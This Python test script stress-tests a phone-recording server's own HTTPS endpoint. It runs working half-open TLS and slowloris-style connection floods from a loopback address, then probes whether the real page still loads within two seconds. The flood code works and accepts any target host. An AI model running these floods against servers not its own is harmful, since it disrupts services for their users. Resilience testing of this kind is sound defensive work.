"""A LAN attacker against ``phonepose record live``, and the phone's requests beside it.

    python tools/live_attack.py halfopen --port 8443 [--conns 80]        # TLS started, never finished
    python tools/live_attack.py slow --port 8443 [--rate 4]              # TLS done, the request trickles in
    python tools/live_attack.py halfopen --port 8443 --token T --probes 12   # and the page, once a second

Attackers connect from ``--attacker-address`` (default 127.0.0.1) and reopen what the recorder closes; the
probes (the page with the recording's token) come from ``--phone-address`` (default 127.0.0.2, another
loopback address on Linux). Each probe prints its status and seconds; the last line sums them up.
"""

from __future__ import annotations

import argparse
import asyncio
import ssl
import sys
import time


def client_hello() -> bytes:
    """The first flight of a real TLS client (what a browser sends first), from an in-memory handshake."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def _insecure() -> ssl.SSLContext:
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    return ctx


async def _hold_half_open(host: str, port: int, source: str, hello: bytes, stats: dict) -> None:
    """One connection that sends its ClientHello and never answers; reopened whenever the recorder closes it."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats["failed"] += 1
            await asyncio.sleep(0.05)
            continue
        stats["opened"] += 1
        try:
            writer.write(hello)
            while await reader.read(65536):
                pass
        except OSError:
            pass
        finally:
            writer.close()
        await asyncio.sleep(0.01)


async def _slow_client(host: str, port: int, source: str, stats: dict) -> None:
    """TLS completed, then a request line and headers one byte a second (never a whole request)."""
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0), ssl=_insecure(),
                                                       server_hostname="localhost")
    except (OSError, ssl.SSLError):
        stats["failed"] += 1
        return
    stats["opened"] += 1
    try:
        for byte in b"GET /?token=wrong HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(1.0)
    except (OSError, ssl.SSLError):
        pass
    finally:
        writer.close()


async def attack(mode: str, host: str, port: int, source: str, *, conns: int = 80, rate: float = 4.0,
                 stats: dict | None = None) -> None:
    """Run ``mode`` until cancelled; ``stats`` counts connections opened and failed."""
    stats = stats if stats is not None else {}
    stats.setdefault("opened", 0)
    stats.setdefault("failed", 0)
    tasks: set[asyncio.Task] = set()
    try:
        if mode == "halfopen":
            hello = client_hello()
            tasks = {asyncio.ensure_future(_hold_half_open(host, port, source, hello, stats)) for _ in range(conns)}
            await asyncio.gather(*tasks)
        else:
            while True:
                task = asyncio.ensure_future(_slow_client(host, port, source, stats))
                tasks.add(task)
                task.add_done_callback(tasks.discard)
                await asyncio.sleep(1.0 / rate)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def probe(host: str, port: int, token: str, source: str, timeout_s: float) -> tuple[int, float]:
    """The phone page with the token: (HTTP status or 0 for no answer, seconds)."""
    t0 = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            host, port, local_addr=(source, 0), ssl=_insecure(), server_hostname="localhost"), timeout_s)
        try:
            writer.write(f"GET /?token={token} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            line = await asyncio.wait_for(reader.readline(), max(timeout_s - (time.monotonic() - t0), 0.01))
            body = await asyncio.wait_for(reader.read(), max(timeout_s - (time.monotonic() - t0), 0.01))
        finally:
            writer.close()
        status = int(line.split()[1]) if line.startswith(b"HTTP/") and b"<html" in body.lower() else 0
    except (OSError, ssl.SSLError, TimeoutError, ValueError, IndexError):
        status = 0
    return status, time.monotonic() - t0


async def _main(args) -> int:
    stats: dict = {}
    attacker = asyncio.ensure_future(attack(args.mode, args.host, args.port, args.attacker_address, conns=args.conns,
                                            rate=args.rate, stats=stats))
    served = 0
    try:
        await asyncio.sleep(args.warmup)
        if not args.token:
            await attacker
        for i in range(args.probes):
            status, seconds = await probe(args.host, args.port, args.token, args.phone_address, args.timeout)
            ok = status == 200 and seconds <= 2.0
            served += ok
            print(f"probe {i + 1}: status {status or 'none'}, {seconds:.2f} s; attacker opened {stats['opened']}",
                  flush=True)
            await asyncio.sleep(1.0)
    finally:
        attacker.cancel()
        await asyncio.gather(attacker, return_exceptions=True)
    print(f"{args.mode}: {served} of {args.probes} pages served within 2 s")
    return 0 if served == args.probes else 1


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("mode", choices=["halfopen", "slow"])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--token", default="")
    ap.add_argument("--conns", type=int, default=80, help="halfopen: connections held")
    ap.add_argument("--rate", type=float, default=4.0, help="slow: new connections a second")
    ap.add_argument("--probes", type=int, default=12)
    ap.add_argument("--warmup", type=float, default=5.0, help="seconds of attack before the first probe")
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--attacker-address", default="127.0.0.1")
    ap.add_argument("--phone-address", default="127.0.0.2")
    args = ap.parse_args()
    try:
        return asyncio.run(_main(args))
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":
    sys.exit(main())
